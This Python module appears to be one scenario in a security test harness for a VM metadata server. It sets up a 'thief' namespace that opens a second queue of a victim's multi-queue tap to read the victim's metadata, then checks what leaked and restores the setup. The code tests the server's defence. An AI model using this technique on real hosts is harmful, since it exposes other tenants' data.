"""An operator starts a domain whose interface has the tap of a running neighbour, which several can open at once (`<driver queues='2'/>`).

Gained: the neighbour's data. A tap of several queues sends each reply to the queue by which the connection came, the kernel announces no further
queue, and the attacker's XML says nothing of the tap: it is not read yet, or cannot be used. In the way: the server asks the kernel at each request
whether the queues of such a tap have changed, and a tap with more queues than its domain's interface belongs to nobody.
"""

import contextlib
import time

import attack
import space
from attack import Outcome
from field import METADATA, Field, ask
from guest import TAP, Guest
from host import Host


class Attack(attack.Attack):
    """A thief opens another queue of victim-1's tap, with victim-1's addresses."""

    families = (4, 6)
    hosts = ("address",)
    victims = slice(1, None)
    rate = 50
    seconds = 16
    no_proof = "no option has the server trust a tap with more queues than its domain's; the thief must be heard at the tap, or this shows nothing"

    def __init__(self) -> None:
        """The thief has the number of victim-1, and so its addresses."""
        self.thief: Guest | None = None

    def prepare(self, host: Host) -> None:
        """Gives victim-1 a tap that others can open too."""
        victim = host.victims[0]
        victim.unplug()
        victim.has_queues = True
        host.plug(victim)
        host.wait_until_served(victim, seconds=30)

    def attack(self, field: Field) -> None:
        """Nothing: it is a program of the host's that opens the tap."""
        field.wait()

    def during(self, host: Host, outcome: Outcome) -> None:
        """Steals, for longer than the server takes to look at all links again."""
        victim = host.victims[0]
        self.thief = Guest("thief", victim.number, victim.tap, cable=TAP, has_queues=True)
        self.thief.create()
        host.plug(self.thief)
        outcome.host_report["links"] = space.call("ip", "-details", "link", "show", victim.tap).count("numqueues 2")
        begin, seen = time.monotonic(), []
        with space.inside("thief"):
            while time.monotonic() - begin < 13:
                status, body = ask(METADATA[outcome.family], seconds=1)
                found = (status, body.decode(errors="replace")[:60])
                if found not in seen:
                    seen.append(found)
                time.sleep(0.1)
        outcome.host_report["thief"] = seen
        self._end()
        host.wait_until_served(victim, seconds=30)

    def gained(self, outcome: Outcome) -> str | None:
        """Victim-1's data."""
        stolen = [found for found in outcome.host_report["thief"] if "victim" in found[1]]
        if stolen:
            return f"by another queue of the tap the thief read {stolen[0][1]}"
        return None if outcome.host_report["links"] else "the tap has one queue only"

    def _end(self) -> None:
        if self.thief:
            with contextlib.suppress(space.Failure):
                self.thief.unplug()
            with contextlib.suppress(space.Failure):
                space.ip("netns delete thief")
            self.thief = None

    def restore(self, host: Host) -> None:
        """Ends the thief, and gives victim-1 a tap of its own."""
        victim = host.victims[0]
        self._end()
        victim.unplug()
        victim.has_queues = False
        host.plug(victim)
        host.wait_until_served(victim, seconds=30)
